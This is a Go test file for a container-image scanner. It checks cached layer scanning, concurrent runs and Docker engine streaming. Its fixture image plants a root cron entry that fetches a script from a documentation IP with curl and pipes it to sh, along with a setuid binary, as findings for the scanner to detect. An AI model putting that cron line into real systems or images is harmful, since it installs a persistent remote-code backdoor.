package main

import (
	"archive/tar"
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const cronEntry = "* * * * * root curl -s http://203.0.113.7/x | sh\n"

// smallImage makes an archive of two layers, the upper of which is the caller's.
func smallImage(t *testing.T, top string) string {
	t.Helper()
	dir := t.TempDir()
	lower, upper := newLayer(t, filepath.Join(dir, "lower.tar")), newLayer(t, filepath.Join(dir, "upper.tar"))
	lower.add(t, &tar.Header{Name: "etc/cron.d/x", Mode: 0o644}, []byte(cronEntry))
	lower.add(t, &tar.Header{Name: "bin/tool", Mode: 0o4755}, []byte("\x7fELF tool"))
	upper.add(t, &tar.Header{Name: "bin/.wh.tool", Mode: 0o644}, nil)
	upper.add(t, &tar.Header{Name: "top", Mode: 0o644}, []byte(top))
	return saved(t, dir, "small", []string{"lower.tar", "upper.tar"}, []string{lower.close(t), upper.close(t)})
}

// TestKeptImage knows all of an image that was scanned before without a look into
// its layers, of which this has been made to hold something else.
func TestKeptImage(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	archive := smallImage(t, "one")
	target := "docker-archive:" + archive
	want, wantFound := imageDocument(t, target), imageFindings(t, target)
	if len(wantFound) == 0 {
		t.Fatal("nothing is found in it")
	}
	text, err := os.ReadFile(archive)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(archive, bytes.ReplaceAll(text, []byte("curl"), []byte("echo")), 0o600); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, imageDocument(t, target)); diff != "" {
		t.Errorf("the document differs:\n%s", diff)
	}
	if diff := cmp.Diff(wantFound, imageFindings(t, target)); diff != "" {
		t.Errorf("the findings differ:\n%s", diff)
	}
	for _, other := range []string{"--no-cache", "--max-file-size=1MB", "--no-builtin-rules", "--yara=../../rules/logs"} {
		if status, stdout, stderr := rummage(t.Context(), "scan", target, other); status != statusError || !strings.Contains(stderr, "diff ID") {
			t.Errorf("%s: status %d: %s%s", other, status, stdout, stderr)
		}
	}
	// With another layer on it, it is not read again, and is not taken from where it
	// is missing.
	if _, status := scanned(t, "docker-archive:"+smallImage(t, "two")); status != statusOK {
		t.Errorf("status %d", status)
	}
	shell(t, filepath.Dir(archive), "tar --delete -f "+archive+" lower.tar")
	if status, stdout, stderr := rummage(t.Context(), "scan", target); status != statusError || !strings.Contains(stderr, "missing") {
		t.Errorf("status %d: %s%s", status, stdout, stderr)
	}
}

// TestKeptSideBySide has several processes keep and find the same layers.
func TestKeptSideBySide(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	t.Setenv("DOCKER_HOST", "unix:///nonexistent.sock")
	var archives []string
	for i := range 3 {
		archives = append(archives, "docker-archive:"+smallImage(t, fmt.Sprint(i%2)))
	}
	var group sync.WaitGroup
	results := make([]string, 12)
	for i := range results {
		group.Go(func() {
			cmd := exec.Command("rummage", "document", archives[i%len(archives)])
			out, err := cmd.Output()
			if err != nil {
				t.Errorf("%v: %s", err, out)
				return
			}
			doc := comparable(t, out)
			for _, f := range doc.Files {
				results[i] += fmt.Sprintf("%s %s %s %s\n", f.Path, f.SHA256, f.Layer, f.DeletedIn)
			}
		})
	}
	group.Wait()
	for i, result := range results {
		if result != results[i%len(archives)] || result == "" {
			t.Errorf("%d differs:\n%s\n%s", i, result, results[i%len(archives)])
		}
	}
}

// TestKeptEngineImage asks an engine for an image once, and again when that has
// changed.
func TestKeptEngineImage(t *testing.T) {
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	name := built(t, layeredImage)
	var streams atomic.Int64
	proxy := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			if strings.HasSuffix(r.In.URL.Path, "/images/get") {
				streams.Add(1)
			}
			r.Out.URL.Scheme, r.Out.URL.Host = "http", "engine"
		},
		Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "unix", "/var/run/docker.sock")
		}},
	})
	defer proxy.Close()
	host := "-H=tcp://" + proxy.Listener.Addr().String()
	scan := func() string {
		t.Helper()
		status, stdout, stderr := rummage(t.Context(), "document", "image:"+name, host)
		if status != statusOK {
			t.Fatalf("status %d: %s", status, stderr)
		}
		lines := strings.Split(stdout, "\n")
		for i, line := range lines {
			if strings.Contains(line, `"collected_at"`) {
				lines[i] = ""
			}
		}
		return strings.Join(lines, "\n")
	}
	first, second := scan(), scan()
	if diff := cmp.Diff(first, second); diff != "" || streams.Load() != 1 {
		t.Errorf("streamed %d times: %s", streams.Load(), diff)
	}
	cmd := exec.Command("docker", "build", "-q", "-t", name, "-")
	cmd.Env = append(os.Environ(), "DOCKER_BUILDKIT=0")
	cmd.Stdin = strings.NewReader("FROM " + name + "\nRUN echo x >/x\n")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if third := scan(); third == first || streams.Load() != 2 {
		t.Errorf("streamed %d times", streams.Load())
	}
}
